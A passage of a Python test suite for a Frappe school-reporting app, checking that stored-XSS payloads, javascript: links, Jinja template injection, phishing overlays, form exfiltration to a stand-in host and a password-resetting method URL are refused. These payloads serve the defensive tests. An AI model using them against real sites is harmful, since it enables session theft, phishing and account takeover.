		names = frappe.get_all("Workflow Action", {"reference_name": dossier.name}, pluck="name")
		self.assertTrue(names, "the dossier's moves left workflow actions")
		rows = {
			"Workflow Action Permitted Role": ("Workflow Action", names[0]),
			"Email Queue Recipient": ("Email Queue", "moeder.rijen@ouders.test"),
		}
		for doctype, (parent, marker) in rows.items():
			listed = {}
			for who, token in (
				("Administrator", admin),
				("System Manager", self.token),
				("teacher", teacher),
			):
				status, answer = request_as(
					token,
					"frappe.client.get_list",
					"get",
					doctype=doctype,
					parent=parent,
					fields=["*"],
					limit_page_length=0,
				)
				listed[who] = json.dumps(answer) if status == 200 else ""
			self.assertIn(marker, listed["Administrator"], f"{doctype}: the control")
			self.assertNotIn(marker, listed["System Manager"], doctype)
			self.assertNotIn(marker, listed["teacher"], doctype)

	def test_a_letter_head_made_from_an_uploaded_logo_is_saved(self):
		"""Round 85 (a brake): Frappe builds a letter head from an image with the picture's size in
		its style, which the rule on markup stored past a save refused once a style kept only how
		letters look. A picture's size stays."""
		head = {"letter_head_name": "Meldcode Logo Kop", "source": "Image", "image": "/files/logo.png"}
		saved = self.saved("Letter Head", **head, image_width=150, image_height=60)
		self.assertIn('src="/files/logo.png"', saved.content)
		self.assertIn("width: 150", saved.content)

	def test_a_note_or_comment_shows_and_does_not_act(self):
		"""Round 84: a picture whose address was "/api/method/logout" logged out whoever looked at
		the note; a comment's stylesheet (rel="stylesheet nofollow") stayed in the reader's desk and
		read the names in her lists through selectors; a form sent what was typed into it to
		another site. The site's own files and another site's pictures stay pictures, and text
		stays text."""
		self.addCleanup(self.remove_logs_and_notes)
		calls = (
			"/api/method/logout",
			"../../api/method/logout",
			"/files/../api/method/logout",
			"/%61pi/method/logout",  # round 85: the server reads it as /api/…
			"http://meldcode.example/files/..%2f%61pi/method/logout",
			"http://meldcode.example//api/method/logout",
		)
		pictures = ("/files/plein.png", "https://school.example/logo.png")
		acting = (
			# round 85: an id="…" from an image's alt into a title's text, and a table's background
			'<p>rooster<img src="/files/week.png" alt="rooster id=">"<b title=" onerror=alert(1) x">.</b></p>'
			'<table background="https://elders.example/bg.png"><tr><td>week</td></tr></table>'
			# round 86: the editor's own tooltip is laid over the page
			'<div class="ql-snow"><div class="ql-tooltip"><a href="https://phish.example/login">Sessie</a></div></div>'
			'<link rel="stylesheet nofollow" href="https://elders.example/s.css">'
			'<style>@import "https://elders.example/i.css";</style>'
			'<form action="https://elders.example/collect"><p>Naam kind <input name="kind"></p></form>'
		)
		pasted = "<p><span style=\"font-family: 'Times New Roman', serif; color: rgb(0, 0, 0);\">Hallo ouders</span></p>"
		content = (
			"".join(f'<p><img src="{address}"></p>' for address in (*calls, *pictures)) + acting + pasted
		)
		note = self.saved("Note", title="Notitie", content=content)
		self.addCleanup(frappe.db.delete, "Comment", {"reference_name": note.name})
		status, answer = request_as(
			self.token,
			"frappe.desk.form.utils.add_comment",
			"post",
			reference_doctype="Note",
			reference_name=note.name,
			content=content,
			comment_email=SYSTEM_MANAGER,
			comment_by="Systeem",
		)
		self.assertEqual(status, 200, answer)
		frappe.db.rollback()
		for stored in (note.content, frappe.db.get_value("Comment", answer["name"], "content")):
			self.assertEqual(stored.count("<img"), len(pictures) + 1, stored)  # and the alt's own
			for address in pictures:
				self.assertIn(f'<img src="{address}">', stored)
			for element in ("<link", "<style", "<form", "<input", "elders.example"):
				self.assertNotIn(element, stored)
			self.assertIn(
				'alt="rooster id=">"<b title=" onerror=alert(1) x">', stored, "text in its attribute"
			)
			self.assertNotIn("ql-tooltip", stored)
			self.assertIn("""'font-family: "Times New Roman", serif; color: rgb(0, 0, 0);'>Hallo""", stored)
			self.assertIn("Naam kind", stored)

	def test_sent_markup_cut_cased_or_joined_is_refused_as_well(self):
		"""A method may store the text it was sent changed (upper case, cut to a length, joined to
		another): still markup that runs. A value a judged save let through passes."""
		from meldcode_app.access import stored_markup

		planted = "Notitie<img src=x onerror=alert(document.cookie)>"
		self.addCleanup(stored_markup.watch_writes)
		self.addCleanup(frappe.set_user, "Administrator")
		frappe.set_user(SYSTEM_MANAGER)  # what the bench's Administrator sends is theirs
		stored_markup.watch_writes()
		update = "update `tabAccess Log` set reference_document=%s where name=%s"
		for stored in (planted.upper(), planted[7:40] + ">", f"Kopie van {planted[7:]}"):
			with self.assertRaises(frappe.PermissionError, msg=stored):
				stored_markup.refuse_markup_past_a_save(update, (stored, "x"))
		with self.assertRaises(frappe.PermissionError):
			stored_markup.refuse_markup_past_a_save(f"update `tabAccess Log` set page='{planted}'", ())
		# The positive controls: plain text (a "<" before a word, a quote before a word that begins
		# with "on"), a case record's text as typed, a value a save judged.
		for text in (
			"Notitie 12",
			"Concurrent <Jansen> was goedkoper",
			"Kabel &lt;Type-C&gt; besteld",
			'Wacht op "bevestiging" leverancier & onderhoud=klaar',
		):
			stored_markup.refuse_markup_past_a_save(update, (text, "x"))
		stored_markup.refuse_markup_past_a_save("update `tabMeldcode Signal` set description=%s", (planted,))
		frappe.local.meldcode_markup_judged.add(planted.upper())
		stored_markup.refuse_markup_past_a_save(update, (planted.upper(), "x"))

	def test_a_header_frappe_keeps_is_no_markup(self):
		"""Round 77: Frappe keeps X-Forwarded-For as the user's last address with SQL, past a save,
		and the user's form shows it as markup: a Website User's ran in the Administrator's desk.
		An address that is none is the connection's own."""
		from meldcode_app.tests.utils import PASSWORD

		login = {"usr": WEBSITE_MANAGER, "pwd": PASSWORD}
		planted = "<img src=x onerror=alert(document.domain)>"
		status, answer = request_as({"X-Forwarded-For": planted}, "/api/method/login", "post", **login)
		self.assertEqual(status, 200, answer)
		frappe.db.rollback()
		self.assertEqual(frappe.db.get_value("User", WEBSITE_MANAGER, "last_ip"), "127.0.0.1")
		# an IPv6 zone takes any text (round 78)
		zoned = f"fe80::1%{planted}"
		status, answer = request_as({"X-Forwarded-For": zoned}, "/api/method/login", "post", **login)
		self.assertEqual(status, 200, answer)
		frappe.db.rollback()
		self.assertEqual(frappe.db.get_value("User", WEBSITE_MANAGER, "last_ip"), "127.0.0.1")
		status, answer = request_as({"X-Forwarded-For": "203.0.113.9"}, "/api/method/login", "post", **login)
		self.assertEqual(status, 200, f"the positive control: {answer}")
		frappe.db.rollback()
		self.assertEqual(frappe.db.get_value("User", WEBSITE_MANAGER, "last_ip"), "203.0.113.9")

	@unittest.skipUnless("erpnext" in frappe.get_installed_apps(), "ERPNext is not installed on this bench")
	def test_an_issues_status_set_by_any_account_is_no_markup(self):
		"""Round 76: ERPNext sets an Issue's status with set_value for any account, checking no
		permission; the list and the form put the status into the page as markup."""
		door = "erpnext.support.doctype.issue.issue.set_status"
		issue = frappe.get_doc({"doctype": "Issue", "subject": "Meldcode printer"}).insert()
		frappe.db.commit()
		self.addCleanup(lambda: (frappe.db.delete("Issue", {"name": issue.name}), frappe.db.commit()))
		teacher = api_token(staff_user("A", "Teacher"))
		frappe.db.commit()
		status, answer = request_as(
			teacher, door, "post", name=issue.name, status='Open" onmouseover="alert(1)'
		)
		self.assertEqual(status, 403, answer)
		for planted in (
			"<img src=x onerror=alert(1)>",
			'<div ongesturestart="alert(1)">Gesloten</div>',  # Safari's events (round 78)
			'<a href="https://elders.example" style="position:fixed;top:0">Log in</a>',
			'<div class="fixed-top vh-100 bg-white">Sessie verlopen</div>',  # round 79
		):
			status, answer = request_as(teacher, door, "post", name=issue.name, status=planted)
			self.assertEqual(status, 403, f"{planted}: {answer}")
		status, answer = request_as(teacher, door, "post", name=issue.name, status="Replied")
		self.assertEqual(status, 200, f"the positive control: {answer}")
		frappe.db.rollback()
		self.assertEqual(frappe.db.get_value("Issue", issue.name, "status"), "Replied")

	def remove_logs_and_notes(self):
		frappe.db.rollback()
		frappe.db.delete("Access Log", {"reference_document": ("like", "Notitie%")})
		frappe.db.delete("Note", {"title": "Notitie"})
		frappe.db.delete("Notification", {"name": "Meldcode notitie"})
		frappe.db.commit()

	def test_no_navbar_item_or_link_runs_a_script(self):
		"""Round 22: a System Manager's help menu item ran a script (onclick) when the
		aandachtsfunctionaris clicked it; a javascript: route likewise (href)."""
		original = frappe.get_doc("Navbar Settings").as_dict()

		def with_item(item):
			frappe.db.rollback()  # what the last request committed
			settings = json.loads(frappe.as_json(frappe.get_doc("Navbar Settings").as_dict()))
			settings["help_dropdown"].append(
				{"doctype": "Navbar Item", "item_label": "Meldcode handleiding", **item}
			)
			return self.call("frappe.client.save", doc=settings)

		script = "import('/files/p2.js')"
		for item in (
			{"item_type": "Action", "action": script},
			{"item_type": "Route", "route": f"javascript:{script}"},
			{"item_type": "Route", "route": f" JaVa\tScript:{script}"},
			{"item_type": "Route", "route": "vbscript:msgbox(1)"},
			{"item_type": "Route", "route": "data:text/html,<script>alert(1)</script>"},
		):
			status, answer = with_item(item)
			self.assertEqual(status, 403, f"{item}: {answer}")
		website = json.loads(frappe.as_json(frappe.get_doc("Website Settings").as_dict()))
		website["top_bar_items"].append(
			{"doctype": "Top Bar Item", "label": "Hulp", "url": f"javascript:{script}"}
		)
		status, answer = request_as(self.website_token, "frappe.client.save", "post", doc=website)
		self.assertEqual(status, 403, answer)
		self.assertIn("script", str(answer), "refused for its link, not for want of the role")
		card = {
			"doctype": "Number Card",
			"type": "Document Type",
			"document_type": "ToDo",
			"function": "Count",
			"is_public": 1,
			"filters_json": "[]",
		}
		status, answer = self.call(
			"frappe.client.insert",
			doc={
				**card,
				"label": "meldcode-card-script",
				"dynamic_filters_json": json.dumps([["ToDo", "owner", "=", script]]),
			},
		)
		self.assertEqual(status, 403, answer)
		# round 180: a custom card's method, called by each viewer's desk with their session
		method = "frappe.client.set_value?doctype=User&name=x&fieldname=new_password&value=y"
		custom = {**card, "type": "Custom", "label": "meldcode-card-method", "method": method}
		status, answer = self.call("frappe.client.insert", doc=custom)
		self.assertEqual(status, 403, answer)

		def restore_logo():
			frappe.db.rollback()
			frappe.db.set_single_value("Navbar Settings", "app_logo", original["app_logo"])
			frappe.db.commit()

		self.addCleanup(restore_logo)

		def with_logo(logo):  # round 26: Frappe puts the navbar's logo into src="…" as it is
			frappe.db.rollback()
			settings = json.loads(frappe.as_json(frappe.get_doc("Navbar Settings").as_dict()))
			return self.call("frappe.client.save", doc={**settings, "app_logo": logo})

		for logo in ('/x" onerror="import(\'/files/p2.js\')" y="', "/x'><script>1</script>", "javascript:1"):
			status, answer = with_logo(logo)
			self.assertEqual(status, 403, f"{logo}: {answer}")

		# The positive controls: plain routes, links and a logo, a card without dynamic filters,
		# and the bench's Administrator's action.
		try:
			for route in ("/app/meldcode-dossier", "https://example.org"):
				status, answer = with_item({"item_type": "Route", "route": route})
				self.assertEqual(status, 200, answer)
				self.assertEqual(answer["help_dropdown"][-1]["route"], route)
			status, answer = with_logo("/files/logo van school.png")
			self.assertEqual(status, 200, answer)
			status, answer = self.call(
				"frappe.client.insert",
				doc={**card, "label": "meldcode-card-plain", "dynamic_filters_json": "[]"},
			)
			self.assertEqual(status, 200, answer)
			frappe.db.rollback()
			settings = frappe.get_doc("Navbar Settings")
			settings.append(
				"help_dropdown", {"item_label": "Handleiding", "item_type": "Action", "action": "1"}
			)
			settings.save()
		finally:
			frappe.db.rollback()
			settings = frappe.get_doc("Navbar Settings")
			settings.set("help_dropdown", original["help_dropdown"])
			settings.save()
			frappe.db.delete("Number Card", {"label": ("like", "meldcode-card-%")})
			frappe.db.commit()

	def test_no_colour_name_or_analytics_id_runs_a_script(self):
		"""Round 27: a teacher's public Event colour and a System Manager's Number Card colour put a
		script into style="…" in the aandachtsfunctionaris's desk; a Website Manager's analytics id
		read the passwords typed on the login page."""
		teacher = staff_user("A", "Teacher")
		event = {"doctype": "Event", "subject": "Teamoverleg", "event_type": "Public"}
		event["starts_on"] = frappe.utils.now_datetime()
		bad = 'red;animation:spinner-border 1s" onanimationstart="alert(1)'
		as_teacher = as_user(teacher)
		with self.assertRaises(frappe.PermissionError):
			as_teacher(frappe.get_doc({**event, "color": bad}).insert)
		self.assertTrue(as_teacher(frappe.get_doc({**event, "color": "#2490EF"}).insert).name, "control")
		frappe.set_user(SYSTEM_MANAGER)
		try:
			card = frappe.get_doc("Number Card", "Open Meldcode Dossiers")
			card.color = bad
			with self.assertRaises(frappe.PermissionError):
				card.save()
			for name, valid in (('Jan "x" onmouseover', False), ("D'Angelo", True)):
				user = frappe.get_doc("User", teacher)
				user.first_name = name
				if valid:
					user.save()
				else:
					with self.assertRaises(frappe.PermissionError):
						user.save()
			board = {"doctype": "Kanban Board", "reference_doctype": "ToDo", "field_name": "status"}
			for name, column, valid in (
				("meldcode-kb-1", 'Open" onmouseover="alert(1)', False),
				("meldcode-kb-2", "Open", True),
			):
				kanban = frappe.get_doc(
					{**board, "kanban_board_name": name, "columns": [{"column_name": column}]}
				)
				if valid:
					kanban.insert()
				else:
					with self.assertRaises(frappe.PermissionError):
						kanban.insert()
			# Round 185: every desk's "What's New" puts a feed item's title into data-name="…"
			title = frappe.get_meta("Changelog Feed").get_field("title")
			self.assertTrue(out_of_place("Changelog Feed", title, 'Nieuw" style=position:fixed x="'))
			self.assertFalse(out_of_place("Changelog Feed", title, "Nieuw in de desk"), "the control")
			# Round 35: markdown is not cleaned of markup: an image's address with a handler, a link
			# that runs a script (also written as entities) are judged in any markdown field.
			markdown = frappe.get_meta("Newsletter").get_field("message_md")
			for text, refused in (
				('![x](x"onerror="eval(alt))', True),
				("[rooster](&#106;avascript:alert(1))", True),
				("Lees [het rooster][1].\n\n[1]: javascript:alert(1)", True),  # round 79
				("Cursus JavaScript: eerste les (JavaScript: DOM)", False),
				("**Nieuws** van [de school](https://example.org)", False),
			):
				self.assertEqual(bool(out_of_place("Newsletter", markdown, text)), refused, text)
			self.assertTrue(
				is_script_url("&#106;avascript:$.getScript(1)"), "a navbar route as the browser reads it"
			)
			website = frappe.get_doc("Website Settings")
			website.google_analytics_id = "UA-1');alert(1);//"
			with self.assertRaises(frappe.PermissionError):
				website.save(ignore_permissions=True)
		finally:
			frappe.set_user("Administrator")

	def test_a_workspace_icon_is_an_icon(self):
		"""Round 46: a Workspace Manager (no school) set the Meldcode workspace's icon to "support
		s=1 style=… onanimationstart=…": Frappe puts it into the sidebar as an attribute without
		quotes, and it ran in the aandachtsfunctionaris's desk; the patch empties older ones."""
		from meldcode_app.patches import icons_are_icons

		manager = make_user("werkruimtes@meldcode.test", "Werkruimtes", "Workspace Manager")
		# the app's own workspaces are the bench Administrator's (round 63): one of the site's
		title = "Proefwerkruimte iconen"
		page = frappe.get_doc(
			{"doctype": "Workspace", "label": title, "title": title, "public": 1, "module": "Custom"}
		).insert(ignore_permissions=True)
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.delete_doc, "Workspace", page.name, force=True, ignore_permissions=True)
		token = api_token(manager)
		frappe.db.commit()

		def set_icon(value):
			return request_as(
				token,
				"frappe.client.set_value",
				"post",
				doctype="Workspace",
				name=page.name,
				fieldname="icon",
				value=value,
			)

		planted = "support s=1 style=animation-name:spinner-border onanimationstart=alert(1)"
		status, answer = set_icon(planted)
		self.assertEqual(status, 403, answer)
		self.assertFalse(frappe.db.get_value("Workspace", page.name, "icon"))
		status, answer = set_icon("folder-normal")
		self.assertEqual(status, 200, "the positive control: an icon's name")
		frappe.db.set_value("Workspace", page.name, "icon", planted)
		icons_are_icons.execute()
		self.assertIsNone(frappe.db.get_value("Workspace", page.name, "icon"))
		frappe.db.set_value("Workspace", page.name, "icon", "folder-normal")
		icons_are_icons.execute()
		self.assertEqual(frappe.db.get_value("Workspace", page.name, "icon"), "folder-normal")
		status, answer = request_as(
			token,
			"frappe.client.set_value",
			"post",
			doctype="Workspace",
			name="Meldcode",
			fieldname="icon",
			value="folder-normal",
		)
		self.assertEqual(status, 403, "the app's own workspace stays as the app set it")

	def test_no_link_print_style_or_report_script_leaves_its_place(self):
		"""Round 30: a Website Manager's top bar item and a System Manager's navbar route put a
		quote into href="…" and ran a script on the login page and in the desk; a print style's CSS
		closed its <style> in the print view; a query report's script ran in the desk."""
		website = json.loads(frappe.as_json(frappe.get_doc("Website Settings").as_dict()))
		quoted = "/a\" autofocus onfocus=\"import('/files/p.js')"

		tokens = {"Website Settings": self.website_token, "Navbar Settings": self.token}

		def saved(doc):
			frappe.db.rollback()
			status, answer = request_as(tokens[doc["doctype"]], "frappe.client.save", "post", doc=doc)
			return status == 200

		def with_top_bar_item(url):
			return {
				**website,
				"top_bar_items": [
					*website["top_bar_items"],
					{"doctype": "Top Bar Item", "label": "Over ons", "url": url},
				],
			}

		navbar = json.loads(frappe.as_json(frappe.get_doc("Navbar Settings").as_dict()))

		def with_route(route):
			items = [
				{**item, "route": route} if item["item_label"] == "My Settings" else item
				for item in navbar["settings_dropdown"]
			]
			return {**navbar, "settings_dropdown": items}

		try:
			self.assertFalse(saved(with_top_bar_item(quoted)))
			self.assertFalse(saved({**website, "call_to_action_url": '/b" onfocus="alert(2)'}))
			self.assertFalse(saved(with_route(f"/app/user{quoted}")))
			status, answer = self.call(
				"frappe.client.insert",
				doc={
					"doctype": "Print Style",
					"print_style_name": "meldcode-ps",
					"css": "body{} </style><script>1</script>",
				},
			)
			self.assertEqual(status, 403, answer)
			self.assertIn("Administrator", str(answer), "refused for its CSS, not for want of a role")
			report = {
				"doctype": "Report",
				"report_name": "meldcode-taken",
				"report_type": "Query Report",
				"ref_doctype": "ToDo",
				"is_standard": "No",
				"query": "select name from `tabToDo`",
				"javascript": "import('/files/p.js')",
			}
			frappe.get_doc("User", SYSTEM_MANAGER).add_roles("Script Manager")  # as the attacker did
			frappe.db.commit()
			status, answer = self.call("frappe.client.insert", doc=report)
			self.assertEqual(status, 403, answer)
			self.assertIn("Administrator", str(answer), "refused for its script, not for want of a role")
			# The positive controls: plain links, a report without a script, and the bench's
			# Administrator's print style.
			self.assertTrue(saved(with_top_bar_item("/over-ons?school=De Linde")))
			self.assertTrue(saved(with_route("/app/user")))
			frappe.get_doc(
				{"doctype": "Print Style", "print_style_name": "meldcode-ps", "css": "body{}"}
			).insert()
			# Round 182: a query report's rows are shown as the desk formats them, markup and all
			status, answer = self.call("frappe.client.insert", doc={**report, "javascript": ""})
			self.assertEqual(status, 403, answer)
			builder = {**report, "report_type": "Report Builder", "javascript": "", "query": ""}
			status, answer = self.call("frappe.client.insert", doc=builder)
			self.assertEqual(status, 200, answer)

			# Round 184: a Custom Report's column of another DocType shown as Data showed a chart's
			# options (code, never cleaned) as markup; and a JSON key holding markup was kept
			def remove_reports_and_chart():
				frappe.db.delete("Report", {"name": ("like", "meldcode-kolommen%")})
				frappe.db.delete("Dashboard Chart", {"name": "meldcode-sleutel"})
				frappe.db.commit()

			remove_reports_and_chart()
			self.addCleanup(remove_reports_and_chart)
			joined = {"fieldname": "custom_options", "label": "Toelichting", "doctype": "Dashboard Chart"}
			custom = {
				"doctype": "Report",
				"report_name": "meldcode-kolommen",
				"report_type": "Custom Report",
				"reference_report": "Permitted Documents For User",
				"ref_doctype": "User",
				"is_standard": "No",
				"module": "Core",
			}
			for fieldtype, status_expected in (("Data", 403), ("Code", 200)):
				columns = [{**joined, "fieldtype": fieldtype, "link_field": {"fieldname": "name"}}]
				doc = {
					**custom,
					"report_name": f"meldcode-kolommen-{fieldtype}",
					"json": json.dumps({"columns": columns}),
				}
				status, answer = self.call("frappe.client.insert", doc=doc)
				self.assertEqual(status, status_expected, f"{fieldtype}: {answer}")
			chart = {
				"doctype": "Dashboard Chart",
				"chart_name": "meldcode-sleutel",
				"chart_type": "Count",
				"document_type": "Note",
				"based_on": "creation",
				"timeseries": 1,
				"type": "Line",
				"filters_json": "[]",
				"custom_options": json.dumps({"<img src=x onerror=alert(1)>": 1, "colors": ["#7cd6fd"]}),
			}
			status, answer = self.call("frappe.client.insert", doc=chart)
			self.assertEqual(status, 200, answer)
			self.assertNotIn("onerror", answer["custom_options"])
			self.assertIn("colors", answer["custom_options"], "the control: the options are kept")
		finally:
			frappe.db.rollback()
			for doctype, name in (("Website Settings", website), ("Navbar Settings", navbar)):
				doc = frappe.get_doc(doctype)
				doc.update(
					{
						key: value
						for key, value in name.items()
						if key in ("top_bar_items", "call_to_action_url", "settings_dropdown")
					}
				)
				doc.save()
			frappe.delete_doc_if_exists("Print Style", "meldcode-ps")
			frappe.delete_doc_if_exists("Report", "meldcode-taken")
			frappe.get_doc("User", SYSTEM_MANAGER).remove_roles("Script Manager")
			frappe.db.commit()

	def test_a_print_format_builders_html_is_the_bench_administrators(self):
		"""Round 70: a System Manager's Print Format Builder format held a template in an HTML field
		(its format_data), which rendered for whoever printed with it; its html field is refused."""
		doc = {
			"doctype": "Print Format",
			"name": "meldcode-bouwer",
			"doc_type": "User",
			"module": "Core",
			"standard": "No",
			"print_format_builder": 1,
		}
		field = [{"fieldtype": "HTML", "options": "{{ frappe.session.user }}"}]
		try:
			status, answer = self.call("frappe.client.insert", doc={**doc, "format_data": json.dumps(field)})
			self.assertEqual(status, 403, answer)
			self.assertIn("Administrator", str(answer), "refused for its template, not for want of a role")
			status, answer = self.call("frappe.client.insert", doc=doc)
			self.assertEqual(status, 200, f"the positive control: a format without one: {answer}")
		finally:
			frappe.db.rollback()
			frappe.delete_doc_if_exists("Print Format", "meldcode-bouwer")
			frappe.db.commit()

	def test_a_template_rendered_when_shown_is_the_bench_administrators(self):
		"""Frappe cleans these fields when saved and renders them as Jinja when shown: a template
		built an event handler in a director's print preview from a System Manager's default letter
		head (round 71) and from a custom HTML field's options on her own user (round 72)."""
		built = "{{ '\\x3cimg src=x \\x6fnerror=alert(1)\\x3e' }}"
		head = {"doctype": "Letter Head", "letter_head_name": "meldcode-briefhoofd", "source": "HTML"}
		field = {  # on Contact: User is one of Frappe's core DocTypes (round 193)
			"doctype": "Custom Field",
			"dt": "Contact",
			"fieldname": "meldcode_proef_html",
			"label": "Proef",
			"fieldtype": "HTML",
			"insert_after": "email_id",
		}
		template = {"doctype": "Email Template", "name": "meldcode-sjabloon", "subject": "Proef"}
		form = {
			"doctype": "Web Form",
			"title": "Meldcode proefformulier",
			"route": "meldcode-proefformulier",
			"doc_type": "Note",
			"module": "Website",
		}
		html = {"fieldname": "info", "fieldtype": "HTML", "label": "Info"}

		def inserted(doc):  # a web form as the Website Manager who makes them
			frappe.db.rollback()
			token = self.website_token if doc["doctype"] == "Web Form" else self.token
			return request_as(token, "frappe.client.insert", "post", doc=doc)

		setter = {
			"doctype": "Property Setter",
			"doctype_or_field": "DocField",
			"doc_type": "User",
			"field_name": "roles_html",
			"property": "options",
			"property_type": "Small Text",
		}
		issuer = frappe.db.get_single_value("System Settings", "otp_issuer_name")
		try:
			for planted in (
				{**head, "content": f"School {built}"},
				{**head, "footer": "{% if 1 %}x{% endif %}"},
				# Frappe makes the content from an image's address after the app's first look
				{**head, "source": "Image", "image": "/files/{{ frappe.session.user }}.png"},
				{**field, "options": f"<p>Let op</p>{built}"},
				{**setter, "value": built},
				{**template, "response": f"Beste ouder, {built}"},
				{**template, "subject": "Proef {{ frappe.session.user }}"},
				# Round 73: markdown's escapes, a field made HTML (its options then a template), a
				# web form's HTML field (Frappe's microtemplate runs "{% … %}" as JavaScript)
				{**template, "response": "Beste ouder, \\{\\{ (range|string)[0] \\}\\}"},
				{
					**setter,
					"doc_type": "Note",
					"field_name": "title",
					"property": "fieldtype",
					"value": "HTML",
				},
				{**form, "web_form_fields": [{**html, "options": "{% eval(1) %}"}]},
			):
				status, answer = inserted(planted)
				self.assertEqual(status, 403, f"{planted}: {answer}")
				self.assertIn(
					"Administrator",
					str(answer),
					f"refused for its template, not for want of a role: {planted}",
				)
			for plain in (
				{**head, "content": "<b>School</b>"},
				{**field, "options": "<p>Let op</p>"},
				{**template, "response": "Beste ouder,"},
				{**form, "web_form_fields": [{**html, "options": "<p>Let op</p>"}]},
			):
				status, answer = inserted(plain)
				self.assertEqual(status, 200, f"the positive control: plain markup: {answer}")
			# Round 95: the issuer's name goes into the mails of a login with two factors as a template
			for name, status in (("{{ frappe.request }}", 403), ("Meldcode Proefschool", 200)):
				answer = self.call(
					"frappe.client.set_value",
					doctype="System Settings",
					name="System Settings",
					fieldname="otp_issuer_name",
					value=name,
				)
				self.assertEqual(answer[0], status, answer)
		finally:
			frappe.db.rollback()
			frappe.delete_doc_if_exists("Letter Head", "meldcode-briefhoofd")
			frappe.delete_doc_if_exists("Custom Field", "Contact-meldcode_proef_html")
			frappe.delete_doc_if_exists("Email Template", "meldcode-sjabloon")
			frappe.delete_doc_if_exists("Web Form", "meldcode-proefformulier")
			frappe.db.delete("Property Setter", {"doc_type": "User", "field_name": "roles_html"})
			frappe.db.delete(
				"Property Setter", {"doc_type": "Note", "field_name": "title", "property": "fieldtype"}
			)
			frappe.clear_cache(doctype="User")
			frappe.clear_cache(doctype="Note")
			frappe.db.set_single_value("System Settings", "otp_issuer_name", issuer)
			frappe.db.commit()

	def test_a_workspace_made_public_and_a_record_submitted_at_once_are_judged_whole(self):
		"""Round 73: a Workspace Manager made a private workspace with a shortcut's filter that runs
		as JavaScript, then public; a record submitted at once kept its markup uncleaned."""
		shortcut = {"label": "Notities", "type": "DocType", "link_to": "Note"}
		workspace = {
			"doctype": "Workspace",
			"label": "Meldcode proef openbaar",
			"title": "Meldcode proef openbaar",
			"public": 0,
			"for_user": WEBSITE_MANAGER,
			"content": "[]",
		}
		made_public = {"public": 1, "for_user": ""}

		def flipped(shortcuts) -> int:
			frappe.db.rollback()
			status, answer = request_as(
				self.website_token, "frappe.client.insert", "post", doc={**workspace, "shortcuts": shortcuts}
			)
			self.assertEqual(status, 200, answer)
			path = f"/api/resource/Workspace/{answer['name']}"
			return request_as(self.website_token, path, "form-put", body=json.dumps(made_public))[0]

		try:
			code = "(function(){ return [] })()"
			self.assertEqual(flipped([{**shortcut, "stats_filter": code}]), 403)
			frappe.delete_doc("Workspace", "Meldcode proef openbaar", force=True)
			frappe.db.commit()
			self.assertEqual(flipped([shortcut]), 200, "the positive control: no code")
		finally:
			frappe.db.rollback()
			frappe.delete_doc_if_exists("Workspace", "Meldcode proef openbaar")
			frappe.db.commit()

		submittable = frappe.get_doc(
			{
				"doctype": "DocType",
				"name": "Meldcode Proef Ingediend",
				"module": "Custom",
				"custom": 1,
				"is_submittable": 1,
				"fields": [{"fieldname": "opmerking", "fieldtype": "Small Text", "label": "Opmerking"}],
				"permissions": [{"role": "System Manager", "read": 1, "write": 1, "create": 1, "submit": 1}],
			}
		).insert()
		frappe.db.commit()
		try:
			remark = "Hallo <img src=x onerror=alert(1)>"
			status, answer = self.call(
				"frappe.client.insert", doc={"doctype": submittable.name, "opmerking": remark, "docstatus": 1}
			)
			self.assertEqual(status, 200, answer)
			stored = frappe.db.get_value(submittable.name, answer["name"], "opmerking")
			self.assertNotIn("onerror", stored)
			self.assertIn("Hallo", stored, "the positive control: its text stays")
		finally:
			frappe.db.rollback()
			frappe.delete_doc("DocType", submittable.name, force=True)
			frappe.db.commit()

	def test_customize_form_changes_a_custom_field_as_its_own_save_would(self):
		"""Round 74: Customize Form writes a custom field it changes with db_update, past every hook:
		a System Manager set an Event field's "depends on" to a script the second time they saved."""
		for language in {
			frappe.local.lang or "en",
			"en",
			"nl",
		}:  # the name as the bench's Administrator translated it
			frappe.get_doc(
				{
					"doctype": "Translation",
					"language": language,
					"source_text": "Note",
					"translated_text": "Notitie",
				}
			).insert()
		field = frappe.get_doc(
			{
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "meldcode_proef_aanpassen",
				"label": "Proef",
				"fieldtype": "Data",
				"insert_after": "title",
			}
		).insert()
		link = frappe.get_doc(
			{
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "meldcode_proef_koppeling",
				"label": "Proef koppeling",
				"fieldtype": "Link",
				"options": "Note",
				"insert_after": "title",
			}
		).insert()
		frappe.db.commit()

		def saved(form_label=None, fieldname=None, action=None, **changes) -> int:
			frappe.db.rollback()
			form = frappe.get_doc("Customize Form")
			form.doc_type = "Note"
			form.fetch_to_customize()
			docs = form.as_dict(convert_dates_to_str=True)
			if form_label is not None:
				docs["label"] = form_label
			if action is not None:
				button = {"doctype": "DocType Action", "label": "Gelezen", "custom": 1, "__islocal": 1}
				docs["actions"].append({**button, "action_type": "Server Action", "action": action})
			for row in docs["fields"]:
				if row["fieldname"] == (fieldname or field.fieldname):
					row.update(changes)
			docs = json.dumps(docs, default=str)
			return self.call("run_doc_method", method="save_customization", docs=docs)[0]

		try:
			self.assertEqual(saved(depends_on="eval:fetch('/api/resource/Meldcode Dossier')"), 403)
			# Round 75: a field posted as new that Frappe finds stored, and the DocType's name
			self.assertEqual(saved(**{"__islocal": 1, "depends_on": "eval:1"}), 403)
			self.assertEqual(saved(form_label="Notitie <img src=x onerror=alert(1)>"), 403)
			self.assertEqual(saved(label="Proef <img src=x onerror=alert(1)>"), 403)
			# Round 102: a custom field turned into a link to ToDo, which would fetch a case term's text
			self.assertEqual(saved(fieldname=link.fieldname, options="ToDo"), 403)
			self.assertEqual(saved(fieldname=link.fieldname, options="User"), 200, "the control")
			# Round 182: a form's button calls its method with the viewer's session, arguments and all
			method = "frappe.client.set_value?doctype=User&name=x&fieldname=new_password&value=y"
			self.assertEqual(saved(action=method), 403)
			self.assertEqual(saved(label="Proef twee"), 200, "the positive control: a label")
			frappe.db.rollback()
			stored = frappe.db.get_value("Custom Field", field.name, ["label", "depends_on"])
			self.assertEqual(tuple(stored), ("Proef twee", None))
		finally:
			frappe.db.rollback()
			frappe.delete_doc("Custom Field", field.name, force=True)
			frappe.delete_doc("Custom Field", link.name, force=True)
			frappe.db.delete("Translation", {"source_text": "Note", "translated_text": ("like", "Notitie%")})
			frappe.clear_cache(doctype="Note")
			frappe.db.commit()

	def test_no_label_target_or_page_value_leaves_its_place_or_runs_as_sql(self):
